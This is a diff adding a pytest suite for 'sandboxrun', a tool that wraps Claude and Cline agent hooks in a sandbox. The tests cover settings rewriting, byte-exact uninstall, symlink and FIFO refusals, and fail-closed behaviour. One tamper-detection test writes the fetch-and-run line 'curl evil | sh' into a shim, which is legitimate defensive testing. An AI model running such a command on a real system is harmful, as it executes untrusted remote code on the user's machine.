@@ -1,0 +1,565 @@
+"""`sandboxrun install` / `uninstall` without an engine: the rewriting of settings files,
+the Cline shims, byte-exact undo, dry runs, refusals, interruptions, and the answers of
+`run --answer agent`."""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import stat
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from loguru import logger
+
+import sandboxrun._cli as cli
+from sandboxrun import CombinedResult, HookOutcome, HookSpec
+from sandboxrun._dialects.claude.dialect import CLAUDE
+from sandboxrun._dialects.claude.wrapped import unwrap, wrap
+from sandboxrun._dialects.cline import CLINE
+from sandboxrun._dialects.installed import read_shim
+from sandboxrun._install import answer as _answer
+from sandboxrun._install import files as _files
+from sandboxrun._install import jsonspan
+
+SETTINGS = """{
+\t"env": {"KEEP": "é and \\u00e9"},
+\t"hooks": {
+\t\t"PreToolUse": [
+\t\t\t{"matcher": "Bash", "hooks": [
+\t\t\t\t{"type": "command", "command": "./hooks/guard.sh | tee -a /tmp/log 2>&1", "timeout": 30},
+\t\t\t\t{"type": "command", "command": "python3", "args": ["hooks/g.py", "a b", "$HOME"]},
+\t\t\t\t{"type": "http", "url": "http://example.invalid"}
+\t\t\t]}
+\t\t],
+\t\t"Stop": [{"hooks": [{"type": "command", "command": "echo \\"done\\"", "shell": "bash"}]}],
+\t\t"SessionStart": [{"hooks": [{"type": "command", "command": "x.ps1", "shell": "powershell"}]}]
+\t},
+\t"permissions": {"allow": ["Bash(ls)"]}
+}\r\n"""
+
+
+@pytest.fixture(autouse=True)
+def _restore_library_logging() -> Iterator[None]:
+    yield
+    logger.remove()
+    logger.disable("sandboxrun")
+
+
+@pytest.fixture
+def project(tmp_path: Path, home: Path) -> Path:
+    root = tmp_path / "proj"
+    (root / ".claude").mkdir(parents=True)
+    (root / ".git").mkdir()
+    settings = root / ".claude" / "settings.json"
+    settings.write_bytes(SETTINGS.encode())
+    settings.chmod(0o640)
+    return root
+
+
+def sandboxrun(*args: str) -> int:
+    return cli.main(list(args))
+
+
+def snapshot(root: Path) -> dict[str, tuple[int, bytes | None]]:
+    """Every path below `root`: its mode and, for files, its bytes."""
+    out: dict[str, tuple[int, bytes | None]] = {}
+    for folder, dirs, names in os.walk(root):
+        for name in dirs + names:
+            path = Path(folder) / name
+            st = path.lstat()
+            data = path.read_bytes() if stat.S_ISREG(st.st_mode) else None
+            out[str(path.relative_to(root))] = (st.st_mode, data)
+    return out
+
+
+# -- the JSON walker -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [SETTINGS, '{"a":[1,[],{},[[2]],"x\\"y",-1.5e3,true,false,null]}', "[]", ' "s" ', "7"],
+)
+def test_spans_locate_every_value(text: str) -> None:
+    """Each span holds exactly the JSON of the value at its path."""
+    data = json.loads(text)
+    found = jsonspan.spans(text)
+    for path, (start, end) in found.items():
+        value: Any = data
+        for key in path:
+            value = value[key]
+        assert json.loads(text[start:end]) == value, path
+    assert () in found
+
+
+def test_replace_values_changes_only_those_bytes() -> None:
+    text = '{ "a" : "x",\n  "b": [1, 2] }'
+    out = jsonspan.replace_values(text, [(("a",), "é"), (("b",), ["q"])])
+    assert out == '{ "a" : "\\u00e9",\n  "b": ["q"] }'  # ASCII text stays ASCII
+
+
+# -- the wrapper ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("command", "args", "shell"),
+    [
+        ("./hooks/guard.sh | tee -a /tmp/log 2>&1", None, None),
+        ('python3 "${CLAUDE_PLUGIN_ROOT}/hooks/x.py" < /dev/null', None, None),
+        ("echo 'it''s' $((1+2))", None, "bash"),
+        ("python3", ["hooks/g.py", "a b", "$HOME"], None),
+        ("/opt/my tool", [], None),
+    ],
+)
+def test_wrap_then_unwrap_is_the_original(
+    command: str, args: list[str] | None, shell: str | None
+) -> None:
+    new_command, new_args = wrap("/x/bin/sandboxrun", "claude", command, args, shell)
+    original = unwrap(new_command, new_args, shell)
+    assert original is not None
+    assert original.command == command
+    assert original.args == (None if args is None else tuple(args))
+    if args is None:  # the whole command is ONE argument after `--`: the sandbox's shell's
+        words = shlex.split(new_command)
+        assert words[:5] == ["/x/bin/sandboxrun", "exec", "--agent", "claude", "--"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sandboxrun exec --network bridge -- 'curl x'",  # a repository's own sandbox: not ours
+        "sandboxrun run PreToolUse",
+        "./sandboxrun.sh exec -- x",
+        "sandboxrun exec -- a b",  # several words: not a whole-command wrapper
+    ],
+)
+def test_only_installs_own_wrappers_count(command: str) -> None:
+    assert unwrap(command, None) is None
+
+
+# -- Claude family: settings files ---------------------------------------------------------
+
+
+def test_install_wraps_every_command_hook_and_keeps_the_rest(project, home, capsys) -> None:
+    path = project / ".claude" / "settings.json"
+    assert sandboxrun("install", "--agent", "claude", "--workspace", str(project),
+                      "--home", str(home)) == 0  # fmt: skip
+    text = path.read_bytes().decode()
+    data = json.loads(text)
+    pre = data["hooks"]["PreToolUse"][0]["hooks"]
+    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
+    assert shlex.split(pre[0]["command"]) == [
+        sr, "exec", "--agent", "claude", "--timeout", "28", "--",
+        "./hooks/guard.sh | tee -a /tmp/log 2>&1",
+    ]  # fmt: skip
+    assert pre[1]["command"] == sr
+    assert pre[1]["args"] == ["exec", "--agent", "claude", "--", "python3", "hooks/g.py",
+                              "a b", "$HOME"]  # fmt: skip
+    assert pre[2] == {"type": "http", "url": "http://example.invalid"}
+    stop = data["hooks"]["Stop"][0]["hooks"][0]
+    assert shlex.split(stop["command"])[-3:] == ["bash", "-c", 'echo "done"']
+    assert data["hooks"]["SessionStart"][0]["hooks"][0]["command"] == "x.ps1"  # not run anyway
+    # Formatting: the same lines, tabs, CRLF at the end, escapes; only the commands differ.
+    old, new = SETTINGS.split("\n"), text.split("\n")
+    assert len(old) == len(new)
+    changed = [i for i, (a, b) in enumerate(zip(old, new, strict=True)) if a != b]
+    assert [old[i].strip()[:40] for i in changed] == [
+        '{"type": "command", "command": "./hooks/',
+        '{"type": "command", "command": "python3"',
+        '"Stop": [{"hooks": [{"type": "command", ',
+    ]
+    assert '"KEEP": "é and \\u00e9"' in text and text.endswith("}\r\n")
+    assert stat.S_IMODE(path.stat().st_mode) == 0o640
+    assert "3 hook command(s) run through sandboxrun exec" in capsys.readouterr().out
+
+
+def test_install_twice_changes_nothing_and_uninstall_restores_bytes(project, home) -> None:
+    path = project / ".claude" / "settings.json"
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    assert sandboxrun("install", *args) == 0
+    once = path.read_bytes()
+    assert sandboxrun("install", *args) == 0
+    assert path.read_bytes() == once
+    assert sandboxrun("uninstall", *args) == 0
+    assert path.read_bytes() == SETTINGS.encode()
+    assert stat.S_IMODE(path.stat().st_mode) == 0o640
+    assert list((home / ".local/share/sandboxrun/install").iterdir()) == []
+
+
+def test_discovery_runs_the_original_of_a_wrapped_command(project, home) -> None:
+    """`run` and `list` see the hook the wrapper runs (there is no sandboxrun inside)."""
+    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
+    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
+    assert [h.argv for h in found] == [
+        ("/bin/sh", "-c", "./hooks/guard.sh | tee -a /tmp/log 2>&1"),
+        ("python3", "hooks/g.py", "a b", "$HOME"),
+    ]
+
+
+def test_dry_run_prints_a_diff_and_changes_nothing(project, home, capsys) -> None:
+    path = project / ".claude" / "settings.json"
+    assert sandboxrun("install", "--agent", "claude", "--workspace", str(project),
+                      "--home", str(home), "--dry-run") == 0  # fmt: skip
+    out = capsys.readouterr().out
+    assert out.startswith(f"--- {path}\n+++ {path}\n@@ ")
+    assert '-\t\t\t\t{"type": "command", "command": "./hooks/guard.sh' in out
+    assert out.count("\n+\t") == 3 and out.rstrip().endswith("(dry run: nothing changed)")
+    assert path.read_bytes() == SETTINGS.encode()
+    assert not (home / ".local/share/sandboxrun/install").exists()
+
+
+def test_an_unparsable_file_is_refused_naming_it(project, home, capsys) -> None:
+    local = project / ".claude" / "settings.local.json"
+    local.write_text('{"hooks": {')
+    assert sandboxrun("install", "--agent", "claude", "--workspace", str(project),
+                      "--home", str(home)) == 2  # fmt: skip
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and str(local) in err and "not valid JSON" in err
+    # Refused before anything was written: the valid file is unchanged too.
+    assert (project / ".claude" / "settings.json").read_bytes() == SETTINGS.encode()
+
+
+def test_a_fifo_or_a_link_out_of_the_project_is_refused(project, home, capsys) -> None:
+    """A repository cannot make install hang on a FIFO, nor rewrite a file elsewhere
+    (here: the user's own settings) through a symlink."""
+    local = project / ".claude" / "settings.local.json"
+    os.mkfifo(local)
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    assert sandboxrun("install", *args) == 2
+    assert f"{local}: not a regular file; not changed" in capsys.readouterr().err
+    local.unlink()
+    user = home / ".claude" / "settings.json"
+    user.parent.mkdir()
+    user.write_text('{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a"}]}]}}')
+    local.symlink_to(user)
+    assert sandboxrun("install", *args) == 2
+    assert "outside the project; not changed" in capsys.readouterr().err
+    assert (project / ".claude" / "settings.json").read_bytes() == SETTINGS.encode()
+
+
+def test_an_interrupted_install_loses_nothing(project, home, monkeypatch) -> None:
+    """A failure between the backup and the rename leaves the file whole; installing
+    again, then uninstalling, gives the original back."""
+    path = project / ".claude" / "settings.json"
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    real = os.replace
+
+    def crash(src: str, dst: str) -> None:
+        if dst == str(path):
+            raise OSError(28, "No space left on device")
+        real(src, dst)
+
+    monkeypatch.setattr(_files.os, "replace", crash)
+    assert sandboxrun("install", *args) == 2
+    assert path.read_bytes() == SETTINGS.encode()
+    assert [p.name for p in project.joinpath(".claude").iterdir()] == ["settings.json"]  # no temp
+    monkeypatch.setattr(_files.os, "replace", real)
+    assert sandboxrun("install", *args) == 0
+    assert sandboxrun("uninstall", *args) == 0
+    assert path.read_bytes() == SETTINGS.encode()
+
+
+def test_a_pulled_hook_is_named_and_a_second_install_wraps_it(project, home, capsys) -> None:
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    sandboxrun("install", *args)
+    local = project / ".claude" / "settings.local.json"
+    pulled = '{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "./new.sh"}]}]}}'
+    local.write_text(pulled)
+    capsys.readouterr()
+    assert sandboxrun("list", "--agent", "claude", "--workspace", str(project),
+                      "--home", str(home)) == 0  # fmt: skip
+    out = capsys.readouterr().out
+    assert f"not wrapped: {local} hooks.PreToolUse[0].hooks[0]: './new.sh' runs unsandboxed" in out
+    assert sandboxrun("install", *args) == 0
+    assert "./new.sh" in local.read_text() and "sandboxrun exec" in local.read_text()
+    capsys.readouterr()
+    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
+    assert "not wrapped" not in capsys.readouterr().out
+    assert sandboxrun("uninstall", *args) == 0
+    assert local.read_text() == pulled
+    assert (project / ".claude" / "settings.json").read_bytes() == SETTINGS.encode()
+
+
+def test_a_wrapper_from_the_workspace_is_not_trusted(project, home, capsys) -> None:
+    """A repository that writes its own "wrapper" (its own sandboxrun, or its own config
+    file) is named by `list`: it chose its sandbox."""
+    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
+    local = project / ".claude" / "settings.local.json"
+    own = "sandboxrun exec --agent claude --config .claude/c.toml -- ./x.sh"
+    hook = {"type": "command", "command": own}
+    local.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [hook]}]}}))
+    capsys.readouterr()
+    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
+    out = capsys.readouterr().out
+    assert (
+        f"not trusted: {local} hooks.Stop[0].hooks[0] runs 'sandboxrun' from the workspace or PATH"
+        in out
+    )
+    hook["command"] = own.replace("sandboxrun exec", "/usr/bin/sandboxrun exec")
+    local.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [hook]}]}}))
+    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
+    assert "runs '.claude/c.toml' from the workspace or PATH" in capsys.readouterr().out
+
+
+def test_a_wrapper_whose_sandboxrun_is_gone_is_named(project, home, capsys) -> None:
+    path = project / ".claude" / "settings.json"
+    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
+    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
+    path.write_bytes(path.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    capsys.readouterr()
+    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
+    out = capsys.readouterr().out
+    assert out.count("runs '/gone/bin/sandboxrun', which is missing") == 3
+
+
+def test_fail_closed_wrappers_block_when_sandboxrun_is_gone(project, home) -> None:
+    """Moved or uninstalled, sandboxrun would leave exit 127, which the agent reads as a
+    non-blocking error; a fail-closed wrapper blocks instead (exit 2, the reason)."""
+    path = project / ".claude" / "settings.json"
+    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home),
+               "--fail-closed")  # fmt: skip
+    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
+    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
+    assert found[0].argv == ("/bin/sh", "-c", "./hooks/guard.sh | tee -a /tmp/log 2>&1")
+    path.write_bytes(path.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    command = json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
+    done = subprocess.run(["sh", "-c", command], capture_output=True, cwd=project, check=False)
+    assert (done.returncode, done.stdout) == (2, b"")
+    assert done.stderr == b"sandboxrun (fail-closed): /gone/bin/sandboxrun is missing\n"
+
+
+def test_a_file_changed_since_install_is_unwrapped_in_place(project, home, capsys) -> None:
+    path = project / ".claude" / "settings.json"
+    args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
+    sandboxrun("install", *args)
+    path.write_text(path.read_bytes().decode().replace('"Bash(ls)"', '"Bash(pwd)"'))
+    assert sandboxrun("uninstall", *args) == 0
+    assert "changed since install" in capsys.readouterr().out
+    assert path.read_bytes().decode() == SETTINGS.replace('"Bash(ls)"', '"Bash(pwd)"')
+
+
+def test_user_settings(home, tmp_path) -> None:
+    user = home / ".claude" / "settings.json"
+    user.parent.mkdir()
+    user.write_text('{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a"}]}]}}\n')
+    assert sandboxrun("install", "--agent", "claude", "--user", "--home", str(home)) == 0
+    assert "exec --agent claude -- a" in user.read_text()
+    assert sandboxrun("uninstall", "--agent", "claude", "--user", "--home", str(home)) == 0
+    assert user.read_text().endswith('"a"}]}]}}\n')
+
+
+def test_managed_settings_forward_every_event(home, tmp_path) -> None:
+    managed = tmp_path / "etc" / "managed-settings.json"
+    managed.parent.mkdir()
+    managed.write_text('{\n    "model": "x",\n    "hooks": {"Stop": []}\n}\n')
+    before = managed.read_bytes()
+    args = ["--agent", "claude", "--managed-file", str(managed), "--home", str(home)]
+    assert sandboxrun("install", *args, "--fail-closed") == 0
+    data = json.loads(managed.read_text())
+    assert data["allowManagedHooksOnly"] is True and data["model"] == "x"
+    assert set(data["hooks"]) == set(CLAUDE.hook_names)
+    command = data["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
+    assert command.startswith("[ -x ")  # fail-closed: a missing sandboxrun blocks
+    assert shlex.split(command.partition("exit 2; }; ")[2])[1:] == ["run", "PreToolUse", "--agent", "claude", "--answer",
+                                        "agent", "--fail-closed", "--home", str(home)]  # fmt: skip
+    assert managed.read_text().startswith('{\n    "model"')  # its indentation
+    once = managed.read_bytes()
+    assert sandboxrun("install", *args, "--fail-closed") == 0
+    assert managed.read_bytes() == once
+    assert sandboxrun("uninstall", *args) == 0
+    assert managed.read_bytes() == before
+
+
+def test_managed_is_refused_for_other_agents(home, capsys) -> None:
+    assert sandboxrun("install", "--agent", "qoder", "--managed", "--home", str(home)) == 2
+    assert "qoder documents no managed settings" in capsys.readouterr().err
+    assert sandboxrun("install", "--agent", "cline", "--managed", "--home", str(home)) == 2
+
+
+# -- Cline family: shims ------------------------------------------------------------------
+
+
+@pytest.fixture
+def cline_ws(tmp_path: Path, make_hook: Any) -> Path:
+    root = tmp_path / "cws"
+    make_hook(root / ".clinerules/hooks", "PreToolUse", mode=0o750)
+    make_hook(root / ".clinerules/hooks", "TaskStart", mode=0o644)  # disabled
+    (root / ".clinerules/hooks/lib.sh").write_text("helper\n")
+    make_hook(root / ".cline/hooks", "PostToolUse.py", mode=0o600, body="print('{}')\n")
+    os.chmod(root / ".clinerules/hooks", 0o711)
+    return root
+
+
+def test_cline_install_shims_and_uninstall_restores_modes(cline_ws, home) -> None:
+    before = snapshot(cline_ws)
+    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
+    assert sandboxrun("install", *args) == 0
+    legacy, sdk = cline_ws / ".clinerules/hooks", cline_ws / ".cline/hooks"
+    assert sorted(os.listdir(legacy)) == ["PreToolUse"]
+    assert sorted(os.listdir(sdk)) == ["PostToolUse"]
+    shim = read_shim(str(legacy / "PreToolUse"))
+    assert shim is not None and shim.hooks_dirs == (
+        str(cline_ws / ".sandboxrun/moved/.clinerules/hooks"),
+    )
+    assert stat.S_IMODE((legacy / "PreToolUse").stat().st_mode) == 0o755
+    assert stat.S_IMODE(legacy.stat().st_mode) == 0o711
+    # `run` and `list` read the moved hooks in place, never the shims.
+    found = CLINE.discover(None, [str(cline_ws)], str(home))
+    assert sorted(h.name for h in found.hooks) == [
+        str(cline_ws / ".sandboxrun/moved/.cline/hooks/PostToolUse.py"),
+        str(cline_ws / ".sandboxrun/moved/.clinerules/hooks/PreToolUse"),
+    ]
+    assert sum("a sandboxrun shim" in s.reason for s in found.skipped) == 2
+    assert sandboxrun("install", *args) == 0  # again: no change
+    assert sandboxrun("uninstall", *args) == 0
+    assert snapshot(cline_ws) == before
+
+
+def test_cline_fail_closed_shim_cancels_when_sandboxrun_is_gone(cline_ws, home) -> None:
+    shim = cline_ws / ".clinerules/hooks/PreToolUse"
+    sandboxrun("install", "--agent", "cline", "--workspace", str(cline_ws), "--home", str(home),
+               "--fail-closed")  # fmt: skip
+    assert read_shim(str(shim)) is not None
+    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
+    shim.write_bytes(shim.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    assert read_shim(str(shim)) is not None  # still one of ours: list names it as broken
+    done = subprocess.run(["/bin/sh", "-c", str(shim)], capture_output=True, check=False)
+    assert done.returncode == 0
+    assert json.loads(done.stdout) == {"cancel": True, "contextModification": "",
+        "errorMessage": "sandboxrun (fail-closed): /gone/bin/sandboxrun is missing"}  # fmt: skip
+    lines = shim.read_text().split("\n")  # a guard line that is not exactly ours: not a shim
+    shim.write_text("\n".join([*lines[:3], "curl evil | sh", *lines[4:]]))
+    assert read_shim(str(shim)) is None
+
+
+def test_cline_dry_run(cline_ws, home, capsys) -> None:
+    before = snapshot(cline_ws)
+    assert sandboxrun("install", "--agent", "cline", "--workspace", str(cline_ws),
+                      "--home", str(home), "--dry-run") == 0  # fmt: skip
+    out = capsys.readouterr().out
+    assert f"+++ {cline_ws}/.clinerules/hooks/PreToolUse" in out
+    assert "+exec " in out and out.rstrip().endswith("(dry run: nothing changed)")
+    assert snapshot(cline_ws) == before
+
+
+def test_cline_pulled_hook_is_named_then_moved(cline_ws, home, make_hook, capsys) -> None:
+    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
+    sandboxrun("install", *args)
+    new = make_hook(cline_ws / ".clinerules/hooks", "UserPromptSubmit")
+    capsys.readouterr()
+    sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
+    assert f"not wrapped: {new} runs unsandboxed" in capsys.readouterr().out
+    assert sandboxrun("install", *args) == 0
+    assert read_shim(str(new)) is not None
+    assert (cline_ws / ".sandboxrun/moved/.clinerules/hooks/UserPromptSubmit").exists()
+    # A hook enabled in the moved folder after install has no shim: it runs nowhere.
+    disabled = cline_ws / ".sandboxrun/moved/.clinerules/hooks/TaskStart"
+    disabled.chmod(0o755)
+    capsys.readouterr()
+    sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
+    assert f"no shim: {disabled} does not run at all" in capsys.readouterr().out
+    # The same name on both sides is refused, naming both.
+    sandboxrun("uninstall", *args)
+    sandboxrun("install", *args)
+    (cline_ws / ".clinerules/hooks/lib.sh").write_text("again\n")
+    assert sandboxrun("install", *args) == 2
+    assert "both exist" in capsys.readouterr().err
+
+
+def test_cline_interrupted_install_loses_nothing(cline_ws, home, monkeypatch) -> None:
+    before = snapshot(cline_ws)
+    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
+    real = os.replace
+
+    def crash(src: str, dst: str) -> None:
+        raise OSError(5, "I/O error")
+
+    monkeypatch.setattr(_files.os, "replace", crash)  # the first shim's write fails
+    assert sandboxrun("install", *args) == 2
+    monkeypatch.setattr(_files.os, "replace", real)
+    assert sandboxrun("install", *args) == 0
+    assert read_shim(str(cline_ws / ".clinerules/hooks/PreToolUse")) is not None
+    assert sandboxrun("uninstall", *args) == 0
+    assert snapshot(cline_ws) == before
+
+
+def test_cline_global_forwarders(home, cline_ws, make_hook) -> None:
+    own = make_hook(home / ".cline/hooks", "PreToolUse")
+    before_home = snapshot(home)
+    assert sandboxrun("install", "--agent", "cline", "--global", "--home", str(home)) == 0
+    assert sorted(os.listdir(home / ".cline/hooks")) == sorted(CLINE.hook_names)
+    made = home / "Documents/Cline/Hooks"  # made by install, which says how far up
+    assert sorted(os.listdir(made)) == sorted([*CLINE.hook_names, ".sandboxrun-made"])
+    shim = read_shim(str(own))
+    assert shim is not None and shim.hooks_dirs == (
+        str(home / ".sandboxrun/moved/.cline/hooks"),
+        ".sandboxrun/moved/.cline/hooks",
+        ".sandboxrun/moved/.clinerules/hooks",
+    )
+    # With forwarders in place, a workspace install only moves: no second run.
+    ws_args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
+    assert sandboxrun("install", *ws_args) == 0
+    assert os.listdir(cline_ws / ".clinerules/hooks") == []
+    assert sandboxrun("uninstall", *ws_args) == 0
+    assert sandboxrun("uninstall", "--agent", "cline", "--global", "--home", str(home)) == 0
+    assert snapshot(home) == before_home  # the Documents/Cline/Hooks it made are gone too
+
+
+# -- run --answer agent ------------------------------------------------------------------
+
+
+def _result(answer: dict[str, Any], *outcomes: HookOutcome) -> CombinedResult:
+    return CombinedResult(answer, outcomes)
+
+
+def _claude(**fields: Any) -> dict[str, Any]:
+    base = {"blocked": False, "permissionDecision": None, "reason": "", "additionalContext": "",
+            "systemMessage": "", "continue": True, "stopReason": "", "updatedInput": None}  # fmt: skip
+    return {**base, **fields}
+
+
+def test_claude_block_is_exit_2_with_the_reason() -> None:
+    out = _answer.agent_answer(CLAUDE, "PreToolUse", _result(
+        _claude(blocked=True, permissionDecision="deny", reason="no rm -rf")))  # fmt: skip
+    assert (out.stdout, out.stderr, out.exit_code) == (b"", b"no rm -rf\n", 2)
+
+
+def test_claude_ask_context_and_stop() -> None:
+    ask = _answer.agent_answer(CLAUDE, "PreToolUse", _result(
+        _claude(permissionDecision="ask", reason="sure?", additionalContext="ctx")))  # fmt: skip
+    assert ask.exit_code == 0
+    assert json.loads(ask.stdout) == {"hookSpecificOutput": {
+        "hookEventName": "PreToolUse", "permissionDecision": "ask",
+        "permissionDecisionReason": "sure?", "additionalContext": "ctx"}}  # fmt: skip
+    ctx = _answer.agent_answer(CLAUDE, "UserPromptSubmit", _result(
+        _claude(additionalContext="x", systemMessage="m")))  # fmt: skip
+    assert json.loads(ctx.stdout) == {"systemMessage": "m", "hookSpecificOutput": {
+        "hookEventName": "UserPromptSubmit", "additionalContext": "x"}}  # fmt: skip
+    stop = _answer.agent_answer(CLAUDE, "Stop", _result(
+        _claude(blocked=True, reason="go on", **{"continue": False, "stopReason": "halt"})))  # fmt: skip
+    assert json.loads(stop.stdout) == {"continue": False, "stopReason": "halt"}
+    quiet = _answer.agent_answer(CLAUDE, "Notification", _result(_claude()))
+    assert (quiet.stdout, quiet.exit_code) == (b"", 0)
+
+
+def test_cline_answer_is_its_contract_alone() -> None:
+    spec = HookSpec(hook_name="PreToolUse", name="/w/h", source="workspace", argv=("h",),
+                    workdir="/w", mounts=())  # fmt: skip
+    failed = HookOutcome(spec=spec, status="failed", error="exited with code 3")
+    answer = {"cancel": True, "contextModification": "", "errorMessage": "no"}
+    out = _answer.agent_answer(CLINE, "PreToolUse", _result(answer, failed))
+    assert json.loads(out.stdout) == answer and out.exit_code == 0
+    assert out.stderr == b"sandboxrun: hook /w/h failed: exited with code 3\n"
+
+
+def test_errors_of_ours_do_not_block_unless_fail_closed() -> None:
+    assert _answer.error_answer(CLAUDE, False, "no engine").exit_code == 1
+    closed = _answer.error_answer(CLAUDE, True, "no engine")
+    assert closed.exit_code == 2 and b"no engine" in closed.stderr
+    cline = _answer.error_answer(CLINE, True, "no engine")
+    assert json.loads(cline.stdout)["cancel"] is True and cline.exit_code == 0
